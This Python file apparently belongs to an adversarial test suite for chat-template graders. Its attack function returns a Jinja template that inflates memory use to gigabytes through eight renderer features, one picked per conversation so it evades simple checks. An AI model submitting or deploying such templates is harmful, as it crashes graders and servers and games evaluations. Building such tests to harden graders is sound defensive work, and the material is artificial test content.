# attack: returns a chat template that makes gigabytes with what the renderer offers: JSON with margins, dates, filters
# group: h
# targets: make_training_template fix_chat_template
# ends: wrong error timeout memory crashed
# control: none: a naive grader would take the memory of its own machine

SIZE = "{%- set size = 1000000000 + 0 * messages|length %}"
"""A number that Jinja cannot work out ahead, when it compiles: then only the first form would ever be tried."""
FORMS = (
    "{{ messages|tojson(indent=size) }}",
    "{{ strftime_now('%A' * (size // 10)) }}",
    "{{ 'a b'|indent(size, true) }}",
    "{{ ('a ' * 50000)|wordwrap(1, true, 'B' * (size // 20000)) }}",
    "{{ '%*d'|format(size, 1) }}",
    "{{ ('{:' ~ size ~ '}').format(1) }}",
    "{{ (messages|list * (size // 20))|length }}",
    "{{ messages|batch(size, 'x')|list|length }}",
)


def attack(*args, **kwargs):
    """Return a template with all forms, of which each conversation meets one: its letters decide."""
    chosen = "".join(
        f"{{%- if messages|string|length % {len(FORMS)} == {number} %}}{form}{{%- endif %}}"
        for number, form in enumerate(FORMS)
    )
    return SIZE + "{%- generation %}" + chosen + "{%- endgeneration %}"
